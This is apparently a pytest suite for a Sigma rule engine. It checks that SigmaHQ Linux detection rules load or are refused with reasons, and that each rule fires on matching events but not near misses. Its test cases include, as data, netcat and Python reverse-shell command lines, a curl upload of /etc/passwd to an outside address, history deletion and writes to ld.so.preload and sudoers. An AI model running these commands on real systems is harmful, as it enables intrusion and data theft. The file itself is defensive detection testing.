"""SigmaHQ's Linux rules: every one loads or is refused with a reason, and
known rules fire on matching events and not on near misses.

The rules are read from outside the repository (see ``sigma_helpers``);
these tests skip when they are absent.
"""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from sigma_helpers import ev

from immune.events import Event
from immune.sigma import RuleSet, SigmaEngine, load_rules


@pytest.fixture(scope="module")
def ruleset(corpus: Path) -> RuleSet:
    return load_rules([corpus])


def test_sigma_corpus_every_file_is_loaded_or_refused(
    corpus: Path, ruleset: RuleSet
) -> None:
    files = {str(p) for p in corpus.rglob("*.yml")}
    accounted = {r.file for r in ruleset.rules} | {r.file for r in ruleset.refused}
    assert files == accounted
    for refusal in ruleset.refused:
        assert refusal.rule_id and refusal.title and refusal.reason, refusal


def test_sigma_corpus_process_creation_rules_load(
    corpus: Path, ruleset: RuleSet
) -> None:
    folder = str(corpus / "process_creation")
    loaded = [r for r in ruleset.rules if r.file.startswith(folder)]
    refused = [r for r in ruleset.refused if r.file.startswith(folder)]
    assert len(loaded) + len(refused) == len(list(Path(folder).glob("*.yml")))
    assert all(rule.kinds == ("exec",) for rule in loaded)
    # Only what events truly lack is refused, and it is named.
    for refusal in refused:
        assert "LogonId" in refusal.reason, refusal
    assert len(loaded) >= 0.95 * (len(loaded) + len(refused))


def test_sigma_corpus_refusals_name_their_cause(ruleset: RuleSet) -> None:
    reasons = {Path(r.file).name: r.reason for r in ruleset.refused}
    assert (
        "DestinationHostname"
        in reasons["net_connection_lnx_crypto_mining_indicators.yml"]
    )
    assert "service=sshd" in reasons["lnx_sshd_susp_ssh.yml"]
    assert (
        "'mknod' never occurs"
        in reasons["lnx_auditd_susp_special_file_creation_via_mknod_syscall.yml"]
    )


NC = "7f734ed0-4f47-46c0-837f-6ee62505abd9"
JAVA = "d292e0af-9a18-420c-9525-ec0ac3936892"
TMP_PARENT = "2fade0b6-7423-4835-9d4f-335b39b83867"
PYTHON = "32e62bc7-3de0-4bb1-90af-532978fe42c0"
HISTORY = "1182f3b3-e716-4efa-99ab-d2685d04360f"
CURL_UPLOAD = "00b90cc1-17ec-402c-96ad-3a8117d7a582"
HIDDEN = "d08722cd-3d09-449a-80b4-83ea2d9d4616"
PRELOAD = "4b3cb710-5e83-4715-8c45-8b2b5b3e5751"
BASH_CONNECT = "83dcd9f6-9ca8-4af7-a16e-a1c7a6b51871"
CALLBACK = "dbfc7c98-04ab-4ab7-aa94-c74d22aa7376"
SUDOERS = "ddb26b76-4447-4807-871f-1b035b2bfa5d"
PADDING = "c52a914f-3d8b-4b2a-bb75-b3991e75f8ba"
SHUTDOWN = "4cb57c2f-1f29-41f8-893d-8bed8e1c1d2f"

PY_SHELL = (
    "import socket,subprocess,os,pty;s=socket.socket();"
    "s.connect(('203.0.113.5',4444));pty.spawn('/bin/sh')"
)


def parent_then(parent_exe: str, child: Event) -> list[Event]:
    return [ev(exe=parent_exe, pid=child.ppid, ppid=1), child]


CASES: list[tuple[str, list[Event], bool]] = [
    (NC, [ev(exe="/usr/bin/nc", argv="nc 203.0.113.5 4444 -e /bin/sh")], True),
    (NC, [ev(exe="/usr/bin/nc", argv="nc -l -p 4444")], False),
    (NC, [ev(exe="/usr/bin/nc", argv="nc 203.0.113.5 4444 -e /usr/bin/id")], False),
    (
        JAVA,
        parent_then(
            "/opt/jdk/bin/java", ev(exe="/bin/sh", argv="/bin/sh -c id", ppid=7)
        ),
        True,
    ),
    (
        JAVA,
        parent_then(
            "/opt/jdk/bin/javac", ev(exe="/bin/sh", argv="/bin/sh -c id", ppid=8)
        ),
        False,
    ),
    (
        TMP_PARENT,
        parent_then("/tmp/.x/dropper", ev(exe="/usr/bin/bash", argv="bash", ppid=9)),
        True,
    ),
    (
        TMP_PARENT,
        parent_then("/tmp/.x/dropper", ev(exe="/usr/bin/bashbug", ppid=10)),
        False,
    ),
    (PYTHON, [ev(exe="/usr/bin/python3", argv=["python3", "-c", PY_SHELL])], True),
    (
        PYTHON,
        [
            ev(
                exe="/usr/bin/python3",
                argv=["python3", "-c", "import pty;pty.spawn('sh')"],
            )
        ],
        False,
    ),
    (HISTORY, [ev(exe="/usr/bin/rm", argv="rm -f /root/.bash_history")], True),
    (HISTORY, [ev(exe="/usr/bin/rm", argv="rm -f /root/.bashrc")], False),
    (HISTORY, [ev(exe="/usr/bin/cat", argv="cat /root/.bash_history")], False),
    (
        CURL_UPLOAD,
        [ev(exe="/usr/bin/curl", argv="curl -F f=@/etc/passwd http://203.0.113.5/u")],
        True,
    ),
    (
        CURL_UPLOAD,  # the filter: uploads to localhost
        [ev(exe="/usr/bin/curl", argv="curl -F f=@x http://localhost/u")],
        False,
    ),
    (
        CURL_UPLOAD,  # -f is not -F: the rule's regex is case-sensitive
        [ev(exe="/usr/bin/curl", argv="curl -f http://203.0.113.5/u")],
        False,
    ),
    (HIDDEN, [ev(exe="/usr/bin/mkdir", argv="mkdir /var/tmp/.cache2")], True),
    (HIDDEN, [ev(exe="/usr/bin/mkdir", argv="mkdir /var/tmp/cache2")], False),
    (HIDDEN, [ev(exe="/usr/bin/ls", argv="ls /var/tmp/.cache2")], False),
    (PRELOAD, [ev("open", path="/etc/ld.so.preload", exe="/usr/bin/tee")], True),
    (PRELOAD, [ev("open", path="/etc/ld.so.conf", exe="/usr/bin/tee")], False),
    (PRELOAD, [ev(exe="/etc/ld.so.preload")], False),  # exec, not a PATH record
    (
        BASH_CONNECT,
        [ev("connect", exe="/usr/bin/bash", addr="203.0.113.5", port=4444)],
        True,
    ),
    (
        BASH_CONNECT,
        [ev("connect", exe="/usr/bin/bash", addr="127.0.0.1", port=4444)],
        False,
    ),
    (
        BASH_CONNECT,
        [ev("connect", exe="/usr/bin/bash5", addr="203.0.113.5", port=4444)],
        False,
    ),
    (CALLBACK, [ev("connect", exe="/tmp/x", addr="198.51.100.7", port=2222)], True),
    (CALLBACK, [ev("connect", exe="/tmp/x", addr="192.168.1.7", port=2222)], False),
    (CALLBACK, [ev("connect", exe="/tmp/x", addr="fe80::1", port=2222)], False),
    (CALLBACK, [ev("connect", exe="/tmp/x", addr="198.51.100.7", port=2223)], False),
    (CALLBACK, [ev("bind", exe="/tmp/x", addr="198.51.100.7", port=2222)], False),
    (SUDOERS, [ev("open", path="/etc/sudoers.d/99-x", exe="/usr/bin/tee")], True),
    (
        SUDOERS,
        [ev("open", path="/etc/sudoers.d/README.dpkg-new", exe="/usr/bin/dpkg")],
        False,
    ),
    (SUDOERS, [ev("open", path="/etc/sudoers", exe="/usr/bin/tee")], False),
    (PADDING, [ev(exe="/usr/bin/truncate", argv="truncate -s +1M /tmp/x")], True),
    (PADDING, [ev(exe="/usr/bin/dd", argv="dd if=/dev/zero bs=1 count=9")], True),
    (PADDING, [ev(exe="/usr/bin/dd", argv="dd if=/dev/zero of=/tmp/x")], False),
    (PADDING, [ev("open", path="/tmp/truncate-s")], False),  # no EXECVE record
    (SHUTDOWN, [ev(exe="/usr/sbin/telinit", argv="telinit 6")], True),  # a number
    (SHUTDOWN, [ev(exe="/usr/sbin/telinit", argv="telinit q")], False),
]


@pytest.mark.parametrize(("rule_id", "events", "expected"), CASES)
def test_sigma_corpus_rule_fires_on_its_case_only(
    ruleset: RuleSet, rule_id: str, events: list[Event], expected: bool
) -> None:
    assert rule_id in {r.id for r in ruleset.rules}
    engine = SigmaEngine(ruleset)
    verdicts = [engine.evaluate(event) for event in events]
    assert (rule_id in {r.id for r in verdicts[-1].matched}) is expected


def test_sigma_corpus_cases_cover_each_rule_both_ways() -> None:
    covered = {(rule_id, expected) for rule_id, _e, expected in CASES}
    ids = {rule_id for rule_id, _e, _x in CASES}
    assert len(ids) >= 10
    for rule_id in ids:
        assert (rule_id, True) in covered and (rule_id, False) in covered


def test_sigma_corpus_benign_activity_fires_nothing_severe(ruleset: RuleSet) -> None:
    engine = SigmaEngine(ruleset)
    benign = [
        ev(exe="/usr/bin/ls", argv="ls -la /home/deploy"),
        ev(exe="/usr/bin/git", argv="git status"),
        ev("open", path="/home/deploy/notes.txt", exe="/usr/bin/vim"),
        ev("connect", exe="/usr/bin/curl", addr="10.0.0.5", port=443),
    ]
    matched = [r for e in benign for r in engine.evaluate(e).matched]
    assert [r.title for r in matched if r.severity in ("high", "critical")] == []


def test_sigma_corpus_figures_in_the_docs_are_current(
    corpus: Path, ruleset: RuleSet
) -> None:
    doc = (Path(__file__).resolve().parents[2] / "docs" / "sigma.md").read_text()
    rows = re.findall(r"^\| `(\w+)`[^|]* \| (\d+) \| (\d+) \|", doc, re.MULTILINE)
    documented = {folder: (int(a), int(b)) for folder, a, b in rows}
    measured: dict[str, list[int]] = {}
    for entry, index in [(r.file, 0) for r in ruleset.rules] + [
        (r.file, 1) for r in ruleset.refused
    ]:
        folder = Path(entry).relative_to(corpus).parts[0]
        measured.setdefault(folder, [0, 0])[index] += 1
    assert documented == {k: tuple(v) for k, v in measured.items()}
    total = f"loads {len(ruleset.rules)} and refuses {len(ruleset.refused)}"
    assert total in " ".join(doc.split())
